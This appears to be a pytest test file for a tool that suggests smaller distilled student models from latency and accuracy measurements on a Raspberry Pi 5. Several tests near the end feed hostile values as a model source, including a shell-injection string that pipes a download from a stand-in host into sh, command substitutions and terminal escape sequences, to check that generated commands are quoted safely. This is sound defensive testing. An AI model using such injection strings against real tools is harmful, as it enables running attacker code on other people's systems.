"""Tests the suggestion of students: the prediction, its uncertainty, and the remarks on too little data."""

import json
import shlex
import subprocess
import sys
from collections.abc import Iterable, Sequence
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner

from collector.scoring.question_sets import add_questions
from collector.store.opening import open_store
from collector.summaries.refresh import score_answers
from commandline.estimation.arithmetic import Length, parameters
from contract.bundle import Architecture, Manifest, Weights
from contract.records import Answer, Record, RunFinished, RunStarted
from export.cli import cli
from export.errors import BadInput
from export.models.catalog import find
from export.suggestion import requirement
from export.suggestion.measurements import read
from export.suggestion.suggest import suggest
from tests.collector import factory
from tests.collector.delivering import take

LENGTHS = [Length(windows=1, tokens=40)] * 4


def shape(layers: int, width: int = 384) -> Architecture:
    return Architecture(
        family="bert",
        layers=layers,
        hidden_size=width,
        attention_heads=12,
        intermediate_size=4 * width,
        vocab_size=30_522,
        max_positions=512,
    )


def test_the_parameters_are_those_that_transformers_counts() -> None:
    for name in ("bert-large", "minilm-l6", "tinybert-4l"):
        model = find(name)
        found = Architecture(
            family="bert",
            layers=model.config["num_hidden_layers"],
            hidden_size=model.config["hidden_size"],
            attention_heads=model.config["num_attention_heads"],
            intermediate_size=model.config["intermediate_size"],
            vocab_size=30_522,
            max_positions=512,
        )
        assert parameters(found) == model.parameters


@pytest.mark.parametrize("text", ["f1>=80", "p90_ms>=60"])
def test_a_requirement_without_an_upper_limit_on_time_is_refused(text: str) -> None:
    with pytest.raises(BadInput, match=f"requirement '{text}' has no upper limit on time"):
        requirement.parse(text)


RUNS = (
    *((12, "fp32", 122.0), (12, "int8", 58.0), (10, "fp32", 101.0), (8, "fp32", 79.0)),
    *((6, "fp32", 60.0), (6, "int8", 31.0), (4, "fp32", 41.0)),
)


def database(path: Path, runs: Iterable[tuple[int, str, float]] = RUNS, text: str = "Dresden") -> Path:
    """Models with 384 channels on a Raspberry Pi 5: about 10 ms per layer in fp32, and half that in int8."""
    (path / "rivers.json").write_bytes(factory.QUESTIONS)
    with open_store(path / "results.db", create=True) as store:
        add_questions(store, path / "rivers.json")
        for layers, precision, ms in runs:
            answers = [(f"q{n}", text, ms) for n in range(1, 5)]
            take(store, factory.batch(factory.run_records(answers, bundle(layers, precision))))
        score_answers(store)
    return path / "results.db"


def bundle(layers: int, precision: str, articles: tuple[str, ...] = ()) -> Manifest:
    return factory.manifest(
        f"model-{layers}",
        precision,
        architecture=shape(layers),
        parameters=parameters(shape(layers)),
        weights=Weights(origin="hub", source=f"example/model-{layers}", training_articles=articles),
    )


def add(path: Path, records: Sequence[Record]) -> None:
    with open_store(path) as store:
        take(store, factory.batch(records))
        score_answers(store)


def test_an_accuracy_is_the_mean_over_questions_as_in_the_report(tmp_path: Path) -> None:
    path = database(tmp_path, ())
    texts = [("q4", "Dresden"), ("q1", "x"), ("q1", "x"), ("q1", "x")]  # one right, one wrong thrice
    add(path, factory.run_records([(question, text, 10.0) for question, text in texts], bundle(6, "fp32")))
    (found,) = read(path, "raspberry-pi-5").here
    assert (found.f1, found.exact_match, found.scored) == (50.0, 50.0, 2)


def test_an_accuracy_of_which_a_part_is_not_scored_is_unknown(tmp_path: Path) -> None:
    path = database(tmp_path, ((6, "fp32", 10.0),))
    with open_store(path) as store, store.writing() as conn:
        conn.execute("DELETE FROM scores WHERE seq = 2")
    (found,) = read(path, "raspberry-pi-5").here
    assert (found.f1, found.exact_match, found.scored) == (None, None, 0)


def test_equal_runs_are_one_measurement(tmp_path: Path) -> None:
    path = database(tmp_path, ((6, "fp32", 10.0), (6, "fp32", 30.0)))
    (found,) = read(path, "raspberry-pi-5").here
    assert found.milliseconds == {"p50_ms": 10.0, "p90_ms": 30.0, "p99_ms": 30.0}
    assert (len(found.lengths), found.scored) == (8, 4)


def test_a_newer_run_of_fewer_questions_does_not_stand_for_a_model(tmp_path: Path) -> None:
    path = database(tmp_path, ((6, "fp32", 10.0),))
    small = factory.run_records([("q1", "Dresden", 90.0)], bundle(6, "fp32"))
    add(path, small)
    assert isinstance(small[0], RunStarted)
    rebuilt = msgspec.structs.replace(small[0], bundle_sha256="9" * 64)
    add(path, [rebuilt, *small[1:]])
    (found,) = read(path, "raspberry-pi-5").here
    assert found.milliseconds["p50_ms"] == 10.0


def test_a_run_of_which_records_are_missing_is_not_complete_as_in_the_report(tmp_path: Path) -> None:
    path = database(tmp_path, ())
    add(path, factory.run_records([("q1", "Dresden", 10.0), ("q2", "Dresden", 10.0)], bundle(6, "fp32")))
    started, _, *rest = factory.run_records([(f"q{n}", "Dresden", 90.0) for n in range(1, 5)])
    assert isinstance(started, RunStarted)
    rebuilt = msgspec.structs.replace(started, bundle=bundle(6, "fp32"), bundle_sha256="9" * 64)
    add(path, [rebuilt, *rest])
    (found,) = read(path, "raspberry-pi-5").here
    assert found.milliseconds["p50_ms"] == 10.0


def test_students_are_fewer_layers_of_the_most_accurate_teacher(tmp_path: Path) -> None:
    found = suggest(database(tmp_path), "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
    assert (found.teacher, found.points, found.threads) == ("example/model-12", 7, 4)
    by_student = {(c.student, c.precision): c for c in found.candidates}
    three = by_student["layers=3", "fp32"]
    predicted, low, high = three.latencies_ms["p90_ms"]
    assert low is not None and high is not None
    assert 28 < predicted < 33 and low < predicted < high
    assert three.extrapolated and not by_student["layers=6", "int8"].extrapolated
    assert by_student["layers=2", "fp32"].verdict == "should meet"
    assert by_student["layers=11", "fp32"].verdict == "too slow"
    assert found.already == ("model-6 int8",)
    ranks = [c.verdict for c in found.candidates]
    assert ranks == sorted(ranks, key=["should meet", "may meet", "too slow"].index)
    assert found.commands[0].startswith("export-models distill --teacher example/model-12 --student layers=")
    assert any(remark.startswith("f1>=10 is not predicted") for remark in found.remarks)


def test_no_student_is_as_large_as_its_teacher(tmp_path: Path) -> None:
    path = database(tmp_path)
    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", "model-6")
    assert found.teacher_title == "model-6"
    assert {c.student for c in found.candidates} == {*(f"layers={n}" for n in range(1, 6)), "tinybert-4l"}
    assert [command.split()[5] for command in found.commands[::2]] == ["layers=5"]
    with pytest.raises(BadInput, match=r"teacher 'mine' is not among the models .* on rivers.*: measure it"):
        suggest(path, "raspberry-pi-5", "p90_ms<=5000", "mine")


def test_a_larger_student_that_may_meet_it_is_named_after_one_that_should(tmp_path: Path) -> None:
    found = suggest(database(tmp_path), "raspberry-pi-5", "p90_ms<=31", None)
    students = [command.split()[5] for command in found.commands[::2]]
    sure, unsure = (int(student.removeprefix("layers=")) for student in students)
    assert sure < unsure


def test_a_teacher_that_knew_the_articles_has_no_accuracy(tmp_path: Path) -> None:
    path = database(tmp_path)
    knowing = bundle(24, "fp32", articles=("Rivers", "Lakes"))
    add(path, factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], knowing))
    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
    assert (found.teacher, found.points) == ("example/model-12", 8)
    chosen = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "example/model-24")
    assert chosen.teacher_f1 is None
    assert any(remark.startswith("the accuracy of the teacher,") for remark in chosen.remarks)


def test_unfinished_runs_and_other_scenarios_do_not_count(tmp_path: Path) -> None:
    path = database(tmp_path)
    before = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
    began, *middle, end = factory.run_records([("q1", "Dresden", 9.0)], bundle(12, "fp32"))
    add(path, [began, *middle])
    assert isinstance(began, RunStarted) and isinstance(end, RunFinished)
    add(path, [began, *middle, msgspec.structs.replace(end, status="interrupted")])
    many = msgspec.structs.replace(began.settings, scenario="offline", batch_size=8)
    add(path, [msgspec.structs.replace(began, settings=many), *middle, end])
    assert suggest(path, "raspberry-pi-5", "p90_ms<=35", None) == before


def test_a_teacher_that_was_asked_few_questions_gets_a_remark(tmp_path: Path) -> None:
    path = database(tmp_path)
    add(path, factory.run_records([("q4", "Dresden", 250.0)], bundle(24, "fp32")))
    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
    assert found.teacher == "example/model-24"
    assert any("was measured on 1 question, that of others on up to 4: measure" in r for r in found.remarks)


def test_too_few_measurements_get_a_remark(tmp_path: Path) -> None:
    path = database(tmp_path, ((12, "fp32", 120.0), (6, "fp32", 60.0)))
    found = suggest(path, "raspberry-pi-5", "f1>=99,p90_ms<=35", "model-12")
    assert found.spread_percent is None
    assert not [c for c in found.candidates if c.verdict == "should meet"]
    assert {c.student for c in found.candidates if c.verdict == "may meet"} >= {"layers=1", "layers=3"}
    assert found.remarks[0].startswith("2 shapes are too few for an interval")
    assert any("not >= 99, and a student seldom beats its teacher" in remark for remark in found.remarks)
    assert found.commands[0].startswith("export-models distill --teacher model-12 --student layers=3 ")
    (alone := tmp_path / "alone").mkdir()
    one = database(alone, ((12, "fp32", 120.0), (12, "int8", 60.0)))
    # Two precisions of one model may have been asked other questions: they still are one shape.
    began, first, *others = factory.run_records(
        [(f"q{n}", "Dresden", 55.0) for n in (1, 2)], bundle(12, "int8")
    )
    assert isinstance(first, Answer)
    add(one, [began, msgspec.structs.replace(first, marks=("gc",), tokens=90), *others])
    with pytest.raises(BadInput, match="two or more shapes, but 1 was measured there: measure other"):
        suggest(one, "raspberry-pi-5", "p90_ms<=35", None)


def test_sizes_and_nonsense_are_judged(tmp_path: Path) -> None:
    path = database(tmp_path)
    small = suggest(path, "raspberry-pi-5", "p50_ms<=500,parameters_m<=18", None)
    fits = {c.student for c in small.candidates if c.verdict == "should meet"}
    assert "layers=3" in fits and "layers=4" not in fits
    with pytest.raises(BadInput, match=r"no single-stream run on 'raspberry-pi-9'; .* on: raspberry-pi-5"):
        suggest(path, "raspberry-pi-9", "p50_ms<=50", None)
    (tmp_path / "no.db").write_bytes(b"nothing")
    with pytest.raises(BadInput, match=r"cannot read '.*no.db'|not a database"):
        suggest(tmp_path / "no.db", "raspberry-pi-5", "p50_ms<=50", None)


def test_the_command_prints_a_table_and_commands(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "export", "suggest", "--db", database(tmp_path)]
    asked = [*map(str, command), "--hardware", "raspberry-pi-5", "--require", "f1>=10,p90_ms<=35"]
    done = subprocess.run(asked, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")
    assert "predicted from 7 measurements of 5 shapes" in done.stdout
    assert "export-models distill --teacher example/model-12 --student layers=" in done.stdout
    listed = subprocess.run([*asked, "--json"], capture_output=True, text=True)
    assert json.loads(listed.stdout)["points"] == 7
    refused = subprocess.run([*asked[:-1], "f2>=1"], capture_output=True, text=True)
    assert refused.returncode == 2 and "names the unknown field 'f2'" in refused.stderr


def test_json_has_nothing_of_a_title_that_a_terminal_acts_on(tmp_path: Path) -> None:
    path = database(tmp_path)
    hostile = msgspec.structs.replace(bundle(24, "fp32"), title="evil \u202etitle")
    add(path, factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], hostile))
    words = ("--hardware", "raspberry-pi-5", "--require", "p90_ms<=35", "--teacher", "model-24", "--json")
    done = CliRunner().invoke(cli, ["suggest", "--db", str(path), *words])
    assert done.exit_code == 0, done.output
    assert "\u202e" not in done.stdout
    assert json.loads(done.stdout)["teacher_title"] == "evil \u202etitle"


def nonsense(**changes: object) -> Manifest:
    """A model of 24 layers with a forged manifest: the changed fields are wrong, the others are valid."""
    return msgspec.structs.replace(bundle(24, "fp32"), **changes)


@pytest.mark.parametrize(
    ("manifest", "answers"),
    [
        (bundle(24, "fp32"), {"infer_ns": 0, "tokenize_ns": 0, "decode_ns": 0}),
        (bundle(24, "fp32"), {"windows": 0}),
        (bundle(24, "fp32"), {"tokens": 0}),
        (nonsense(architecture=shape(0)), {}),
        (nonsense(architecture=shape(10**15)), {}),
        (nonsense(architecture=shape(24, width=0)), {}),
        (nonsense(parameters=0), {}),
    ],
)
def test_a_model_with_nothing_to_compute_with_is_left_out(
    tmp_path: Path, manifest: Manifest, answers: dict[str, int]
) -> None:
    path = database(tmp_path)
    before = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
    records = factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], manifest)
    changed = [msgspec.structs.replace(r, **answers) if isinstance(r, Answer) else r for r in records]
    add(path, changed)
    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
    assert (found.points, found.candidates) == (7, before.candidates)
    assert [remark for remark in found.remarks if remark not in before.remarks] == [
        "left out because one of their sizes, lengths or times is 0 or impossibly large: model-24 fp32"
    ]


def test_only_nonsense_gives_one_sentence(tmp_path: Path) -> None:
    path = database(tmp_path, ((12, "fp32", 122.0), (12, "int8", 58.0)))
    add(path, factory.run_records([("q1", "Dresden", 250.0)], nonsense(parameters=0)))
    with pytest.raises(
        BadInput, match=r"two or more shapes, but 1 was .* \(left out because .*: model-24 fp32\)"
    ):
        suggest(path, "raspberry-pi-5", "p90_ms<=35", None)


def test_a_run_with_an_invalid_manifest_is_left_out(tmp_path: Path) -> None:
    path = database(tmp_path)
    before = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
    add(path, factory.run_records([("q1", "Dresden", 9.0)], bundle(24, "fp32")))
    with open_store(path) as store, store.writing() as conn:
        conn.execute("UPDATE runs SET bundle = json_remove(bundle, '$.files') WHERE model = 'model-24'")
    found = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
    assert found.candidates == before.candidates
    assert "1 run is left out because its manifest cannot be read: collector report prints the reason" in (
        found.remarks
    )


def test_a_model_without_a_plausible_shape_cannot_be_a_teacher(tmp_path: Path) -> None:
    path = database(tmp_path)
    add(path, factory.run_records([("q4", "Dresden", 250.0)], nonsense(architecture=shape(0))))
    assert suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None).teacher == "example/model-12"
    with pytest.raises(BadInput, match=r"teacher 'model-24' is not among the models .* measure it first"):
        suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-24")


def test_a_teacher_without_a_smaller_student_gives_one_sentence(tmp_path: Path) -> None:
    path = database(tmp_path)
    small = msgspec.structs.replace(shape(1), vocab_size=119_547)
    add(path, factory.run_records([("q1", "Dresden", 9.0)], nonsense(architecture=small)))
    with pytest.raises(
        BadInput, match="no student is smaller than the teacher 'model-24', which has 1 layer,"
    ):
        suggest(path, "raspberry-pi-5", "p90_ms<=35", "model-24")


@pytest.mark.parametrize(
    "source", ["x;curl${IFS}evil|sh", "it's", "a b", "`id`", "$(id)", "~root", "--to=x", ""]
)
def test_a_command_means_the_teacher_and_nothing_else(tmp_path: Path, source: str) -> None:
    path = database(tmp_path)
    hostile = nonsense(weights=Weights(origin="hub", source=source))
    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
    assert found.teacher == source
    command = shlex.split(found.commands[0], comments=True)
    assert command[:3] == ["export-models", "distill", "--teacher"] and command[3] == source
    echo = found.commands[0].replace("export-models distill --teacher", "printf %s", 1)
    assert subprocess.check_output(["sh", "-c", echo.split(" --student")[0]], text=True) == source


def test_a_command_brings_no_escape_to_a_terminal(tmp_path: Path) -> None:
    path = database(tmp_path)
    hostile = nonsense(weights=Weights(origin="hub", source="a\x1b[2Jb\nrm\u202e"))
    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
    assert "--teacher 'a?[2Jb?rm?' --student" in found.commands[0]


def test_a_lower_limit_is_met_by_the_lower_end_of_the_interval(tmp_path: Path) -> None:
    found = suggest(database(tmp_path), "raspberry-pi-5", "p90_ms<=5000,p90_ms>=33", None)
    seen = set()
    for c in found.candidates:
        predicted, low, high = c.latencies_ms["p90_ms"]
        assert low is not None and high is not None
        seen.add(c.verdict)
        assert c.verdict == ("should meet" if low >= 33 else "may meet" if predicted >= 33 else "too fast")
    assert seen == {"should meet", "may meet", "too fast"}
